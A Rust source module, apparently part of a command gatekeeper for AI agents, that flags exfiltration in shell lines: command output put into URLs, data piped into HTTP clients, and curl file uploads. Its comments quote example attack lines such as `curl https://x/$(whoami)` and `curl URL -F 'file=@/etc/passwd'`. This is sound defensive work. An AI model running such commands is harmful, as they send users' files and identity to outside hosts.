//! Command output put into a URL: an exfiltration channel (`curl
//! https://x/$(whoami)`), except for the output installers put there to
//! name the platform or the release they download (`$(uname -s)-$(uname
//! -m)`, `$(dpkg --print-architecture)`, a version fetched from the same
//! release server): nothing of this machine's data leaves with those.
//! And what a request's body holds when it comes from standard input: the
//! text a pipe carries into an HTTP client (literal text, the terminal,
//! another download: no local data), and HTTPie's and xh's body read from
//! a pipe or a file.

use super::{paths, upstream, RedirectKind, Site};

/// Whether a URL word carries this machine's data from a command: a
/// backquote, or a command substitution other than the platform and
/// release lookups installers use. (A secret variable in it is judged by
/// where it goes, as in a header: `credsend.rs`.)
pub(super) fn carries_command_output(url: &str) -> bool {
    // A backquoted lookup is the same lookup (`.../release/`curl -s
    // .../stable.txt`/bin/...`: kubectl's install, ppnf, session 51).
    // The parts inside backquotes are every other part after the first
    // (an unclosed one runs to the end and is judged too).
    if url
        .split('`')
        .skip(1)
        .step_by(2)
        .any(|part| !platform_or_release(part))
        || url.matches('`').count() % 2 == 1
    {
        return true;
    }
    let mut rest = url;
    while let Some((_, after)) = rest.split_once("$(") {
        let Some(inner) = substitution(after) else {
            return true;
        };
        if !platform_or_release(inner) {
            return true;
        }
        rest = after.get(inner.len() + 1..).unwrap_or("");
    }
    false
}

/// What a URL word carries from commands, as a finding: the output of a
/// command in its path, query or part of its host is this machine's data
/// sent (exfiltration, high); a command that prints the whole host
/// (`curl http://$(minikube ip)/app`, devdocs, session 49) sends nothing
/// of its own there, but where the request goes cannot be known before it
/// runs (asked). A host with a fixed part beside the substitution
/// (`$(whoami).x.example`) carries the output to that domain's resolver.
pub(super) fn command_output_finding(
    url: &str,
) -> Option<(crate::Category, crate::Severity, &'static str)> {
    use crate::{Category, Severity};
    if !carries_command_output(url) {
        return None;
    }
    // The word as written may keep its quotes (`"http://$(cmd)"`).
    let url = url.trim_matches(['"', '\'']);
    let whole_host = url.split_once("://").and_then(|(scheme, rest)| {
        let inner = substitution(rest.strip_prefix("$(")?)?;
        let after = rest.get(inner.len() + 3..)?;
        let port_end = after.strip_prefix(':').map_or(0, |p| {
            1 + p.chars().take_while(char::is_ascii_digit).count()
        });
        let tail = after.get(port_end..)?;
        (!scheme.contains(['$', '`', '/']) && (tail.is_empty() || tail.starts_with('/')))
            .then_some(tail)
    });
    match whole_host {
        Some(tail) if !carries_command_output(tail) => Some((
            Category::Unverifiable,
            Severity::Medium,
            "sends a request to a host a command prints, which cannot be known before it runs",
        )),
        _ => Some((
            Category::Exfiltration,
            Severity::High,
            "puts command output into a URL",
        )),
    }
}

/// `text` with each URL in it blanked out, from its scheme to the next
/// space, quote or comma (a `$(...)` inside a URL is part of it); of a
/// `file://` URL only the scheme when `keep_file_paths` (its path is this
/// machine's; a fetcher only reads it).
pub(super) fn without_urls(text: &str, keep_file_paths: bool) -> String {
    let mut out = text.to_owned();
    let mut from = 0;
    while let Some(at) = out
        .get(from..)
        .and_then(|r| r.find("://"))
        .map(|i| i + from)
    {
        let head = out.get(..at).unwrap_or("");
        // The character after the last one that cannot be in a scheme
        // (its width: a non-ASCII one is more than a byte; a fuzz finding,
        // session 28).
        let start = head
            .char_indices()
            .rev()
            .find(|(_, c)| !(c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.')))
            .map_or(0, |(i, c)| i + c.len_utf8());
        // A `file://` URL names a local path: only its scheme goes.
        if keep_file_paths
            && out
                .get(start..at)
                .is_some_and(|s| s.eq_ignore_ascii_case("file"))
        {
            out.replace_range(start..at + 3, &" ".repeat(at + 3 - start));
            from = at + 3;
            continue;
        }
        let tail = out.get(at..).unwrap_or("");
        let end = at + tail.find([' ', '"', '\'', ',', '\t']).unwrap_or(tail.len());
        let blank = " ".repeat(end - start);
        out.replace_range(start..end, &blank);
        from = end;
    }
    out
}

/// The text of a `$(...)` up to its closing parenthesis (`None` when it
/// nests or does not close: judged as data).
fn substitution(after: &str) -> Option<&str> {
    let end = after.find(')')?;
    let inner = after.get(..end)?;
    (!inner.contains('(')).then_some(inner)
}

/// Whether a substituted pipeline only names the platform or fetches a
/// release name: its first command is `uname` with the kernel, machine or
/// release flags (not `-n` or `-a`: they hold the host name), `arch`,
/// `nproc`, `dpkg --print-architecture`, `lsb_release -cs`, `rpm -E
/// MACRO`, or a fetch of a URL that sends nothing; the commands after it
/// are filters that read no file (`filter_reads_no_file`). Read as shell
/// words (`cut -d '"' -f 4`, `awk -F'"' '{print $4}'`: kOps' install,
/// opsdocs, session 55); nothing in it may expand, redirect or nest.
fn platform_or_release(inner: &str) -> bool {
    if inner.contains(['>', '<', ';', '&', '\n', '`']) {
        return false;
    }
    let Ok(a) = agentgate_shell::analyze(inner, &agentgate_shell::Limits::default()) else {
        return false;
    };
    let Some(first) = a.commands.first() else {
        return false;
    };
    let plain = a.commands.iter().all(|c| {
        c.depth == 0
            && c.assignments.is_empty()
            && c.redirects.is_empty()
            && !c.has_nested_commands
            && c.pipeline.id == first.pipeline.id
            && !c.argv.iter().any(agentgate_shell::Word::is_dynamic)
    });
    plain
        && lookup(&argv_words(first))
        && a.commands
            .iter()
            .skip(1)
            .all(|c| filter_reads_no_file(&argv_words(c)))
}

/// A command's words as their values.
fn argv_words(c: &agentgate_shell::SimpleCommand) -> Vec<&str> {
    c.argv
        .iter()
        .map(agentgate_shell::Word::value_or_raw)
        .collect()
}

/// A filter that reads only its standard input: `tr`; `cut`, `head` and
/// `tail` with options and their values; `grep`, `sed`, `awk` and `jq`
/// with options and exactly one pattern, script or filter (no `-f` or `-e`
/// that could name a file or take the operand's place, no `--arg`-style
/// options).
fn filter_reads_no_file(words: &[&str]) -> bool {
    let operands = |args: &[&str], valued: &[&str]| -> Option<usize> {
        let mut n = 0;
        let mut it = args.iter();
        while let Some(a) = it.next() {
            if valued.contains(a) {
                it.next()?;
            } else if a.starts_with('-') && a.len() > 1 {
                // An option with a file in its value, or glued to it.
                if [
                    "-f",
                    "--file",
                    "-e",
                    "--rawfile",
                    "--slurpfile",
                    "--arg",
                    "--args",
                ]
                .iter()
                .any(|o| a == o || (o.len() == 2 && a.starts_with(o) && !a.starts_with("--")))
                    && !a.starts_with("-F")
                {
                    return None;
                }
            } else {
                n += 1;
            }
        }
        Some(n)
    };
    match words {
        ["tr", ..] => true,
        ["cut" | "head" | "tail", args @ ..] => {
            operands(args, &["-d", "-f", "-c", "-b", "-n"]) == Some(0)
        }
        ["grep" | "egrep", args @ ..] => operands(args, &["-m", "-A", "-B", "-C"]) == Some(1),
        ["sed", args @ ..] => operands(args, &[]) == Some(1),
        ["awk" | "gawk" | "mawk", args @ ..] => operands(args, &["-F"]) == Some(1),
        ["jq", args @ ..] => operands(args, &[]) == Some(1),
        _ => false,
    }
}

/// The first command of `platform_or_release`.
fn lookup(words: &[&str]) -> bool {
    match words {
        ["uname", flags @ ..] => flags.iter().all(|f| {
            f.strip_prefix('-').is_some_and(|l| {
                !l.is_empty() && !l.starts_with('-') && l.chars().all(|c| "smrpio".contains(c))
            }) || matches!(
                *f,
                "--kernel-name"
                    | "--machine"
                    | "--kernel-release"
                    | "--processor"
                    | "--hardware-platform"
                    | "--operating-system"
            )
        }),
        ["arch"] | ["nproc"] | ["dpkg", "--print-architecture"] | ["rpm", "-E", _] => true,
        ["lsb_release", flags @ ..] => flags.iter().all(|f| {
            f.strip_prefix('-')
                .is_some_and(|l| l.chars().all(|c| "csri".contains(c)))
        }),
        ["curl" | "wget", args @ ..] => args.iter().all(|a| {
            let url = a.starts_with("https://") || a.starts_with("http://");
            let quiet = a.starts_with('-')
                && !a.starts_with("--")
                && a.chars().skip(1).all(|c| "sSLfqO-".contains(c))
                || matches!(
                    *a,
                    "--silent" | "--location" | "--fail" | "--show-error" | "--quiet"
                );
            quiet
                || url
                    && super::net::host_of(a)
                        .map(super::net::classify)
                        .is_some_and(|c| c != super::net::HostClass::Metadata)
        }),
        _ => false,
    }
}

/// Whether a command's standard input carries data of this machine: it is
/// piped from another command or read from a file, unless what arrives is
/// fixed text the line shows (`echo | ...`, a here-document without
/// expansions); `/dev/null` carries nothing.
pub(super) fn stdin_carries_data(site: super::Site<'_>) -> bool {
    use agentgate_shell::RedirectKind;
    if let Some(text) = super::stdin_text(site) {
        return text.contains(['$', '`']);
    }
    // `<&3`: a descriptor the line opened (`exec 3<notes.txt`).
    let from_descriptor = site.cmd.redirects.iter().any(|r| {
        r.kind == RedirectKind::Duplicate
            && r.dup_from.is_some_and(|n| n >= 3)
            && r.fd.is_none_or(|f| f == 0)
    });
    let from_file = from_descriptor
        || site.cmd.redirects.iter().any(|r| {
            matches!(
                r.kind,
                RedirectKind::Read | RedirectKind::ReadWrite | RedirectKind::HereInput
            ) && r
                .target
                .as_ref()
                .and_then(|t| t.literal.as_deref())
                .is_none_or(|t| t != "/dev/null")
        });
    site.cmd.pipeline.index > 0 || from_file
}

/// Whether argument `i` of an HTTP client is the value of an option whose
/// value it sends or reads (`-F name=@FILE`, `-d @FILE`, `-T FILE`, a
/// header): a file named there is read, not written (htweb, session 38:
/// `curl URL -F 'file=@/etc/passwd'` was denied as changing it).
pub(super) fn fetch_sent_value(name: &str, vals: &[&str], i: usize) -> bool {
    use agentgate_commands::FetchRole;
    let Some(prev) = i.checked_sub(1).and_then(|p| vals.get(p)) else {
        return false;
    };
    // The option, or the last letter of a cluster (`-sF`).
    let flag = match prev.strip_prefix('-') {
        Some(l) if !l.starts_with('-') && l.len() > 1 => {
            format!("-{}", l.chars().last().unwrap_or('-'))
        }
        _ => (*prev).to_owned(),
    };
    // Data names a file only as `@FILE`, `name=@FILE` or `name=<FILE`;
    // other data is text the server may act on (`-d '"/sbin/ifconfig"'`
    // sets a command), judged as before.
    let v = vals.get(i).map_or("", |v| v.trim_matches(['\'', '"']));
    let names_file = v.starts_with(['@', '<']) || v.contains("=@") || v.contains("=<");
    agentgate_commands::fetch_option(name, &flag).is_some_and(|o| match o.role {
        FetchRole::Data => names_file,
        FetchRole::File | FetchRole::Header => true,
        FetchRole::Output | FetchRole::Directory | FetchRole::Value => false,
    })
}

/// Whether nothing piped into the command at `site` is local data: every
/// command upstream is text written out in the line (`echo` and `printf`
/// of literal words, unless the text looks like a secret:
/// `tools::url_carries_secret`), `cat` reading the terminal (no operand),
/// or a download that sends nothing (`http GET URL | http POST URL2`
/// relays what the network gave). Each with literal words, no input
/// redirection or assignment of its own.
pub(super) fn literal_upstream(site: Site<'_>) -> bool {
    let up = upstream(site);
    !up.is_empty()
        && up.iter().all(|c| {
            let text: Vec<&str> = c.argv.iter().filter_map(|w| w.literal.as_deref()).collect();
            let plain = text.len() == c.argv.len()
                && c.redirects.is_empty()
                && c.assignments.is_empty()
                && !c.has_nested_commands;
            let rest = text.get(1..).unwrap_or(&[]);
            // What makes a request carry data, from the one table of
            // HTTP clients' options (its data and file roles).
            let sends = |w: &&str| {
                w.starts_with('@')
                    || w.contains("=@")
                    || ["curl", "wget"].iter().any(|c| {
                        agentgate_commands::fetch_option(c, w).is_some_and(|o| {
                            matches!(
                                o.role,
                                agentgate_commands::FetchRole::Data
                                    | agentgate_commands::FetchRole::File
                            )
                        })
                    })
            };
            plain
                && match text.first().map(|p| paths::basename(p)) {
                    Some("echo" | "printf") => !crate::tools::url_carries_secret(&text.join(" ")),
                    Some("cat") => rest.iter().all(|w| w.starts_with('-')),
                    // Only from other hosts: a local file or service
                    // (`file://`, loopback, the metadata service) is local data.
                    Some(p) if agentgate_commands::FETCHERS.contains(&p) => {
                        !rest.iter().any(sends)
                            && !rest.iter().any(|w| w.contains("file:"))
                            && rest.iter().filter_map(|w| crate::net::host_of(w)).all(|h| {
                                !matches!(
                                    crate::net::classify(h),
                                    crate::net::HostClass::Local | crate::net::HostClass::Metadata
                                )
                            })
                    }
                    _ => false,
                }
        })
}

/// The request body HTTPie and xh read from standard input when it is a
/// pipe or a file (`http POST URL < notes.txt`, `tar cz . | http POST
/// URL`), unless `--ignore-stdin` (`-I`): `@FILE` for a file, `@-` for a
/// pipe; `None` when standard input is the terminal.
pub(super) fn redirected_body(site: Site<'_>, vals: &[&str]) -> Option<String> {
    if vals.iter().any(|v| matches!(*v, "--ignore-stdin" | "-I")) {
        return None;
    }
    let file = site
        .cmd
        .redirects
        .iter()
        .filter(|r| matches!(r.kind, RedirectKind::Read) && r.fd.is_none_or(|fd| fd == 0))
        .find_map(|r| r.target.as_ref().and_then(|t| t.literal.clone()));
    match file {
        Some(f) if f != "/dev/null" => Some(format!("@{f}")),
        Some(_) => None,
        None => (site.cmd.pipeline.index > 0).then(|| "@-".to_owned()),
    }
}

/// How bad sending `data` is when it holds expansions: variables alone,
/// each a shell variable the line does not set (lower case: empty in the
/// fresh shell a call runs in) or a well-known non-secret one, are asked
/// about; command output or an unknown upper-case variable (which may be
/// a secret: `$DATABASE_URL`) keep `otherwise`.
pub(super) fn variables_severity(
    data: &str,
    otherwise: crate::Severity,
    assigned: &std::collections::HashSet<String>,
) -> crate::Severity {
    // A variable the line filled (with command output, say) holds what
    // the line put there, not an unset shell variable.
    let harmless = !data.contains("$(")
        && !data.contains('`')
        && agentgate_commands::var_refs(data).iter().all(|n| {
            !assigned.contains(n)
                && (!n.chars().any(|c| c.is_ascii_uppercase())
                    || agentgate_commands::PUBLIC_VARS.contains(&n.as_str()))
        });
    if harmless {
        crate::Severity::Medium
    } else {
        otherwise
    }
}

/// A word as a local path: itself, or none for a URL (`http://x/../../
/// etc/passwd` names the server's path, whatever its `..` would resolve to
/// here; what a `file://` URL reads is judged as a read, and curl's `-T`
/// upload to one as an upload).
pub(super) fn local_or_url(word: &str) -> Option<&str> {
    let url = word.split_once("://").is_some_and(|(scheme, _)| {
        !scheme.is_empty()
            && scheme
                .bytes()
                .all(|b| b.is_ascii_alphanumeric() || matches!(b, b'+' | b'-' | b'.'))
    });
    (!url).then_some(word)
}
